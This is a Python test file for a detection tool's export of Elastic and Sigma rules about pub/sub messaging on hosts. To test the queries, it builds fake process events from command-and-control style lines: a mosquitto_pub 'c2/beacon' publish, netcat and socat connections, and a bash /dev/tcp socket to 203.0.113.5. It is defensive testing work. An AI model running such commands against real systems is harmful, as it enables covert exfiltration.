"""Exported rules: valid where they go, in standard fields only, and never silently weaker than ours."""

from __future__ import annotations

import json
import re
import tomllib
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import eql  # type: ignore[import-untyped]
import pytest
import yaml
from sigma.collection import SigmaCollection
from sigma.plugins import InstalledSigmaPlugins
from sigma.validation import SigmaValidator

from tests.output import esql_grammar
from tests.output.rules_golden import FOLDER, POLICY, write
from topicwarden.cli.rules import FORMS, export_rules
from topicwarden.engine.host_rules_eql import compile_query, expand
from topicwarden.findings import Catalogue, Detection, FindingType, load_catalogue
from topicwarden.findings.rule_lists import load_rule_lists
from topicwarden.hosts.ecs import EcsEvent
from topicwarden.output.rule_conditions import UnsupportedError
from topicwarden.output.rule_fields import STANDARD, Here
from topicwarden.output.rules import ExportedRule, prepare
from topicwarden.output.rules_elastic import elastic_rule
from topicwarden.output.rules_sigma import sigma_rule
from topicwarden.policy import load_policy

CATALOGUE = load_catalogue()
PORTS = [port for port in load_rule_lists()["pubsub_ports"] if isinstance(port, int)]
HERE = Here(ports=PORTS)
HERE_WITH_POLICY = Here(load_policy(POLICY, list(CATALOGUE)).inventory, PORTS)
PLACES = {"no policy": HERE, "policy": HERE_WITH_POLICY}
RULES = [code for code, entry in CATALOGUE.items() if entry.detection is not None]


def exported(form: str, here: Here) -> dict[str, ExportedRule]:
    return {one.code: one for one in export_rules(CATALOGUE, here, form)}


def files(form: str) -> list[Any]:
    return [*_files(form)]


def _files(form: str) -> Iterator[Any]:
    for place, here in PLACES.items():
        for code, rule in exported(form, here).items():
            for name, text in rule.files.items():
                yield pytest.param(code, name, text, id=f"{place}: {name}")


def test_what_is_exported_is_what_it_was(tmp_path: Path) -> None:
    """`python -m tests.output.rules_golden` writes the golden files anew."""
    write(tmp_path)
    found = {str(path.relative_to(tmp_path)): path.read_text() for path in tmp_path.rglob("*.*")}
    golden = {str(path.relative_to(FOLDER)): path.read_text() for path in FOLDER.glob("*/*")}
    assert found == golden


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("form", FORMS)
def test_every_rule_about_hosts_is_exported_or_it_is_said_why_not(form: str, place: str) -> None:
    rules = exported(form, PLACES[place])
    assert set(RULES) <= set(rules)
    for rule in rules.values():
        assert bool(rule.files) is (rule.why is None)
        assert rule.files or rule.why


def test_with_a_policy_only_what_needs_a_baseline_or_a_broker_is_left() -> None:
    for form in FORMS:
        rules = exported(form, HERE_WITH_POLICY)
        assert {code for code, rule in rules.items() if rule.why is not None and code in RULES} == {"TW404", "TW405"}


@pytest.mark.parametrize(("code", "name", "text"), files("elastic"))
def test_an_elastic_rule_is_one(code: str, name: str, text: str) -> None:
    document = tomllib.loads(text)
    rule, metadata = document["rule"], document["metadata"]
    assert re.fullmatch(r"\d{4}/\d{2}/\d{2}", metadata["creation_date"])
    assert metadata["integration"]
    assert re.fullmatch(r"[a-zA-Z0-9].+?[a-zA-Z0-9\[\]()]", rule["name"])
    assert (rule["severity"], rule["risk_score"]) in {("low", 21), ("medium", 47), ("high", 73), ("critical", 99)}
    assert uuid.UUID(rule["rule_id"]).version == 5
    for key in ("description", "note", "setup", "false_positives", "references", "tags", "author", "license", "from"):
        assert rule[key], key
    assert rule["timestamp_override"] == "event.ingested"
    assert rule["type"] == rule["language"]
    threats = [technique["id"] for threat in rule["threat"] for technique in threat["technique"]]
    assert {one.partition(".")[0] for one in CATALOGUE[code].attack} == set(threats)
    for threat in rule["threat"]:
        assert re.fullmatch(r"TA\d{4}", threat["tactic"]["id"])
    assert name.endswith(".toml")


@pytest.mark.parametrize(("code", "name", "text"), files("elastic"))
def test_an_elastic_query_is_valid_and_has_standard_fields_only(code: str, name: str, text: str) -> None:
    rule = tomllib.loads(text)["rule"]
    query = rule["query"]
    assert "topicwarden" not in query
    assert "${" not in query
    if rule["language"] == "esql":
        parsed = esql_grammar.parse(query)
        assert parsed.fields <= STANDARD
        assert all(name.startswith("Esql.") for name in parsed.made)
        assert "index" not in rule
        return
    with eql.parser.elasticsearch_syntax:
        tree = eql.parse_query(expand(query, {})[0])
    fields = {node.render() for node in _nodes(tree) if isinstance(node, eql.ast.Field)}
    assert fields <= STANDARD
    assert rule["index"]


def _nodes(node: Any) -> Iterator[Any]:
    yield node
    for slot in getattr(node, "__slots__", ()):
        value = getattr(node, slot)
        for child in value if isinstance(value, list | tuple) else [value]:
            if isinstance(child, eql.ast.BaseNode):
                yield from _nodes(child)


VALIDATORS: list[Any] = [
    validator
    for name, validator in InstalledSigmaPlugins.autodiscover().validators.items()
    # The others about tags fetch ATT&CK and D3FEND from the network.
    if "tag" not in name or name in ("tag_format", "duplicate_tag")
]


@pytest.mark.parametrize(("code", "name", "text"), files("sigma"))
def test_a_sigma_rule_is_one(code: str, name: str, text: str) -> None:
    rules = SigmaCollection.from_yaml(text, collect_errors=True)
    assert rules.errors == []
    rules.resolve_rule_references()
    validator = SigmaValidator(VALIDATORS)
    for rule in rules.rules:
        assert rule.errors == []
        assert validator.validate_rule(rule) == []  # type: ignore[arg-type] # correlations, too
    detection = CATALOGUE[code].detection
    assert detection is not None
    assert ("correlation:" in text) is (detection.at_least > 1 or detection.regular is not None)
    assert "topicwarden." not in text
    for document in yaml.safe_load_all(text):
        assert set(document.get("logsource", ())) <= {"product", "category", "service"}


def test_identifiers_are_all_different_and_the_same_for_everybody() -> None:
    ids: list[str] = []
    for rule in exported("elastic", HERE_WITH_POLICY).values():
        ids += [tomllib.loads(text)["rule"]["rule_id"] for text in rule.files.values()]
    for rule in exported("sigma", HERE_WITH_POLICY).values():
        ids += [document["id"] for text in rule.files.values() for document in yaml.safe_load_all(text)]
    assert len(set(ids)) == len(ids)
    without = exported("elastic", HERE)["TW401"].files
    assert [tomllib.loads(t)["rule"]["rule_id"] for t in without.values()] == [
        tomllib.loads(t)["rule"]["rule_id"] for t in exported("elastic", HERE_WITH_POLICY)["TW401"].files.values()
    ]


# What the exported queries find, by running them over events as an agent reports them.
PUB = ["mosquitto_pub", "-h", "203.0.113.5", "-t", "c2/beacon", "-m", "x"]


def process(args: list[str], **more: Any) -> EcsEvent:
    document = {
        "host": {"name": "web-1", "os": {"type": "linux"}},
        "event": {"category": "process", "type": "start", "action": "exec"},
        "user": {"name": more.pop("user", "www-data")},
        "process": {
            "name": args[0],
            "args": args,
            "args_count": len(args),
            "command_line": " ".join(args),
            "parent": {"name": more.pop("parent", "sh")},
        },
    }
    document["host"]["name"] = more.pop("host", "web-1")  # type: ignore[index]
    return EcsEvent("process", 0, document)


def connection(name: str, address: str, port: int) -> EcsEvent:
    document = {
        "host": {"name": "web-1", "os": {"type": "linux"}},
        "event": {"category": "network", "type": "start", "action": "connection_attempted", "outcome": "success"},
        "process": {"name": name},
        "network": {"transport": "tcp"},
        "destination": {"ip": address, "address": address, "port": port},
    }
    return EcsEvent("network", 0, document)


def finds(code: str, source: str, event: EcsEvent, here: Here = HERE_WITH_POLICY) -> bool:
    (text,) = [text for name, text in exported("elastic", here)[code].files.items() if name.endswith(f"_{source}.toml")]
    query = tomllib.loads(text)["rule"]["query"]
    (term,) = compile_query(query, {}).terms
    # Elasticsearch compares a list by any of its values; the package does not compare lists.
    arguments = event.document["process"].pop("args", [""])
    for argument in arguments:
        event.document["process"]["args"] = argument
        if term.category == event.category and term.matches(event):
            return True
    return False


@pytest.mark.parametrize(
    ("code", "event", "found"),
    [
        ("TW402", process(PUB), True),
        ("TW402", process(["mosquitto_pub", "-h", "mqtt.plant.example", "-t", "a", "-m", "x"]), False),
        ("TW402", process(["mosquitto_pub", "-h", "10.2.3.4", "-t", "a", "-m", "x"]), False),
        ("TW402", process(["nc", "203.0.113.5", "1883"]), True),
        ("TW402", process(["nc", "203.0.113.5", "22"]), False),
        ("TW402", process(["bash", "-c", "exec 3<>/dev/tcp/203.0.113.5/5222"]), True),
        ("TW402", process(["python3", "-c", "import paho.mqtt.publish"]), True),
        ("TW402", process(["python3", "-c", "import json"]), False),
        ("TW402", process(["ls", "-l"]), False),
        ("TW403", process(PUB), True),
        ("TW403", process(PUB, host="ci-7", user="ci", parent="gitlab-runner"), False),
        ("TW403", process(PUB, host="ci-7", user="ci", parent="bash"), True),
        ("TW403", process(["amqp-publish", "-r", "x"], user="billing"), False),
        ("TW408", process([*PUB[:-1], "A" * 60]), True),
        ("TW408", process([*PUB[:-1], "all is well"]), False),
        ("TW409", process(["nc", "-w", "3", "203.0.113.5", "5222"]), True),
        ("TW409", process(["nc", "-z", "203.0.113.5", "5222"]), False),
        ("TW409", process(["socat", "-", "TCP:203.0.113.5:1883"]), True),
        ("TW409", process(PUB), False),
        ("TW411", process([*PUB, "-P", "hunter2"]), True),
        ("TW411", process(["amqp-publish", "--url=amqp://u:p@203.0.113.5", "-r", "x"]), True),
        ("TW411", process(["amqp-publish", "--password=p", "-r", "x"]), True),
    ],
)
def test_an_exported_query_about_processes_finds_what_it_is_about(code: str, event: EcsEvent, found: bool) -> None:
    assert finds(code, "process", event) is found


@pytest.mark.parametrize(
    ("event", "found"),
    [
        (connection("mosquitto_pub", "203.0.113.5", 1883), True),
        (connection("mosquitto_pub", "10.9.3.4", 8883), True),
        (connection("mosquitto_pub", "10.2.3.4", 8883), False),
        (connection("mosquitto_pub", "10.2.3.4", 1883), True),
        (connection("mosquitto_pub", "192.0.2.17", 1883), False),
        (connection("firefox", "203.0.113.5", 1883), False),
        (connection("mosquitto_pub", "203.0.113.5", 443), False),
    ],
)
def test_an_exported_query_about_connections_knows_the_approved_brokers(event: EcsEvent, found: bool) -> None:
    assert finds("TW402", "network", event) is found


def rule(eql_text: str, **more: Any) -> FindingType:
    detection = {"eql": eql_text, "group": ["host.name"], "tuning": ["x"], "false_positives": ["y"], **more}
    entry: dict[str, Any] = json.loads(CATALOGUE["TW402"].model_dump_json(exclude={"detection"}))
    entry["severity"] = "high"
    return FindingType.model_validate({**entry, "code": "TW499", "detection": Detection.model_validate(detection)})


def test_options_that_differ_by_a_capital_are_told_apart() -> None:
    """`-P` is mosquitto's password, `-p` its port; the package compares both alike, Elasticsearch's `in` does not."""
    (text,) = exported("elastic", HERE)["TW411"].files.values()
    assert 'process.args in ("--pw", "-P")' in tomllib.loads(text)["rule"]["query"]
    (text,) = exported("sigma", HERE)["TW411"].files.values()
    cased = [
        key
        for selection in yaml.safe_load(text)["detection"].values()
        for branch in (selection if isinstance(selection, list) else [selection])
        if isinstance(branch, dict)
        for key, value in branch.items()
        if "-P" in str(value)
    ]
    assert cased
    assert all("|cased" in key for key in cased)


CONNECTION = 'event.action == "connection_attempted"'


def elastic(eql_text: str, here: Here = HERE, **more: Any) -> ExportedRule:
    entry = rule(eql_text, **more)
    return elastic_rule(prepare(entry, here, {}))


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("network where topicwarden.score >= 50", "TopicAnomalyScore"),
        ("network where topicwarden.unheard.of == 1", r"topicwarden\.unheard\.of"),
        ("process where destination.ip == null", "where a command line points to"),
        ("process where event.action == \"exec\"", "anything that tells it from other events"),
        ("process where process.name == process.parent.name", "fields are not"),
        ("process where length(process.name) > 3", "is no field"),
        ("network where topicwarden.command.tool != null and topicwarden.score > 3", "TopicAnomalyScore"),
        ("network where not (destination.port == 1 or topicwarden.score > 3)", "TopicAnomalyScore"),
        ("file where file.name == \"x\"", "KeyError|file"),
    ],
)  # fmt: skip
def test_what_cannot_be_said_is_not_exported_and_the_reason_is_told(text: str, reason: str) -> None:
    with pytest.raises((UnsupportedError, KeyError), match=reason):
        elastic(text)


def test_an_alternative_that_cannot_be_said_is_left_out_and_told() -> None:
    found = elastic(f"network where {CONNECTION} and (destination.port == 1883 or topicwarden.score > 3)")
    assert any("TopicAnomalyScore" in loss and "missed" in loss for loss in found.losses)
    (text,) = found.files.values()
    assert "TopicAnomalyScore" in tomllib.loads(text)["rule"]["note"]
    assert "destination.port == 1883" in tomllib.loads(text)["rule"]["query"]


def test_what_is_said_whole_loses_nothing() -> None:
    found = elastic(f'network where {CONNECTION} and destination.port == 1883 and not process.name in ("a", "b")')
    assert found.losses == ()


def test_a_sequence_stays_one() -> None:
    found = elastic(
        'sequence by process.entity_id with maxspan=30s [process where event.action == "exec" and process.name == "nc"]'
        ' [network where event.action == "connection_attempted" and destination.port == 1883]'
    )
    (text,) = found.files.values()
    query = tomllib.loads(text)["rule"]["query"]
    compiled = compile_query(query, {})
    assert compiled.max_span_ns == 30 * 10**9
    assert len(compiled.terms) == 2
    twice = (
        'sequence by host.id with maxspan=1m [process where process.name == "a"] [process where process.name == "b"]'
    )
    with pytest.raises(UnsupportedError, match="sequences"):
        sigma_rule(prepare(rule(twice), HERE, {}))


def test_text_that_would_end_a_query_or_a_string_does_not() -> None:
    found = elastic(r'process where process.command_line == "a\"b\\c" and process.name : "x*"')
    (text,) = found.files.values()
    query = tomllib.loads(text)["rule"]["query"]
    (term,) = compile_query(query, {}).terms
    event = process(["xx", "y"])
    event.document["process"]["command_line"] = 'a"b\\c'
    assert term.matches(event)
    with pytest.raises(UnsupportedError, match="cannot be quoted"):
        elastic("process where process.name == \"a'''b\"")


def test_a_catalogue_without_rules_about_hosts_exports_nothing() -> None:
    assert export_rules(Catalogue({}), HERE, "elastic") == []


@pytest.mark.parametrize("text", [
    "FROM x* | WHERE a == 1 AND", "FROM x* | WHERE TO_LOWER(a) == \"A\"", "FROM x* | DROP a", "WHERE a == 1",
    "FROM x* | STATS n = COUNT(*) BY a | WHERE b > 1", "FROM x* | STATS n = SUM(a) BY b", "FROM x* | WHERE a LIKE 1",
    "FROM x* | STATS n = COUNT(*)", "FROM x* | WHERE a == 'x'", "FROM x* | WHERE (a == 1",
])  # fmt: skip
def test_the_grammar_refuses_what_is_not_esql(text: str) -> None:
    with pytest.raises(esql_grammar.EsqlError):
        esql_grammar.parse(text)
